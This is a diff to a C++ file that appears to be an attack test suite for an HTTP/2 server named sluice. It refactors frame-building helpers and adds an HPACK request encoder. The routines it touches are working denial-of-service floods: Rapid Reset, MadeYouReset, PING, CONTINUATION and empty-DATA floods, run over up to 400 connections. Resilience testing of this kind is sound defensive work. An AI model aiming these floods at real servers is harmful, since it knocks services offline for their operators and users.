@@ -10,11 +10,13 @@
 #include <thread>
 #include <vector>
 
-#include "tests/attack/frames.h"
 #include "tests/attack/socket.h"
+#include "tests/support/http2.h"
 
 namespace sluice::attack {
 namespace {
+
+using namespace test::h2;
 
 constexpr int kMaxConnections = 400;
 constexpr double kMaxSeconds = 300;
@@ -31,6 +33,13 @@ struct Plan {
   std::atomic<uint64_t> sent{0};
   std::atomic<uint64_t> answers{0};
 };
+
+// The fields of GET / from that host (RFC 7541 section 6.2.2).
+std::string RequestFields(const std::string& host) {
+  std::string fields = "\x82\x86\x84\x01";
+  fields.push_back(static_cast<char>(host.size()));
+  return fields.append(host);
+}
 
 // Sends what `make` says until the peer ends the connection, then opens another one.
 void Flood(Plan& plan, const std::function<std::string(uint32_t turn)>& make, const std::string& opening) {
@@ -57,7 +66,7 @@ std::string Batch(const std::function<std::string(uint32_t)>& frame, uint32_t tu
   return bytes;
 }
 
-void FloodFrames(Plan& plan, const std::function<std::string(uint32_t)>& frame, std::string opening = Preface()) {
+void FloodFrames(Plan& plan, const std::function<std::string(uint32_t)>& frame, std::string opening = kPreface) {
   Flood(
       plan, [&frame](uint32_t turn) { return Batch(frame, turn); }, opening);
 }
@@ -66,7 +75,7 @@ void RapidReset(Plan& plan) {
   const std::string fields = RequestFields(plan.host);
   FloodFrames(plan, [&](uint32_t i) {
     std::string frames = Frame(kHeaders, kEndStream | kEndHeaders, 2 * i + 1, fields);
-    return frames.append(Frame(kReset, 0, 2 * i + 1, Number32(8)));
+    return frames.append(Frame(kReset, 0, 2 * i + 1, Number(8)));
   });
 }
 
@@ -75,7 +84,7 @@ void MadeYouReset(Plan& plan) {
   const std::string fields = RequestFields(plan.host);
   FloodFrames(plan, [&](uint32_t i) {
     std::string frames = Frame(kHeaders, kEndStream | kEndHeaders, 2 * i + 1, fields);
-    return frames.append(Frame(kWindowUpdate, 0, 2 * i + 1, Number32(0)));
+    return frames.append(Frame(kWindowUpdate, 0, 2 * i + 1, Number(0)));
   });
 }
 
@@ -88,14 +97,14 @@ void Ping(Plan& plan) {
 }
 
 void Continuation(Plan& plan) {
-  std::string opening = Preface();
+  std::string opening = kPreface;
   opening.append(Frame(kHeaders, kEndStream, 1, RequestFields(plan.host)));
   FloodFrames(
       plan, [](uint32_t) { return Frame(kContinuation, 0, 1, ""); }, opening);
 }
 
 void EmptyData(Plan& plan) {
-  std::string opening = Preface();
+  std::string opening = kPreface;
   opening.append(Frame(kHeaders, kEndHeaders, 1, RequestFields(plan.host)));
   FloodFrames(
       plan, [](uint32_t) { return Frame(kData, 0, 1, ""); }, opening);
